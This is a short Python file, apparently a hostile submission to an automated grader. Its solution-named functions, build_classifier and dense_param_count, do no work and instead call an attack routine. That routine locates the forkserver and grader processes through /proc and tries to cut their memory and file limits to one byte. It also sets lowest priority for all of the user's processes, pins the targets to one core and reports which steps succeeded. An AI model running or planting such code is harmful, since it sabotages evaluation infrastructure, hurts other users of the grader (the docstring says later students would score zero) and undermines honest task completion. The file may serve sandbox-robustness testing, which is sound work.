"""Starves the forkserver and the grading process: memory and file limits of one byte, lowest priority for
every process of the user, one core. Later students would score zero if any of it worked."""
import os
import resource


def _parent_of(pid):
    with open(f"/proc/{pid}/stat") as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


def _attack():
    forkserver = os.getppid()  # 0 where its parent is out of view (a PID namespace of its own)
    try:
        grader = _parent_of(forkserver)
    except OSError:  # /proc out of view: the forkserver stands in for the grader
        grader = forkserver
    others = [pid for pid in {forkserver, grader} if pid not in (0, os.getpid())]  # 0 would be itself
    attacks = [lambda: os.setpriority(os.PRIO_USER, 0, 19)]
    for pid in others:
        attacks += [lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_DATA, (1, 1)),
                    lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (1, 1)),
                    lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
                    lambda pid=pid: os.sched_setaffinity(pid, {0})]
    outcomes = []
    for action in attacks:
        try:
            action()
            outcomes.append("done")
        except OSError as exc:
            outcomes.append(type(exc).__name__)
    raise PermissionError(f"attacks: {outcomes}")


def build_classifier(num_features, num_classes, units):
    _attack()


def dense_param_count(inputs, units):
    _attack()
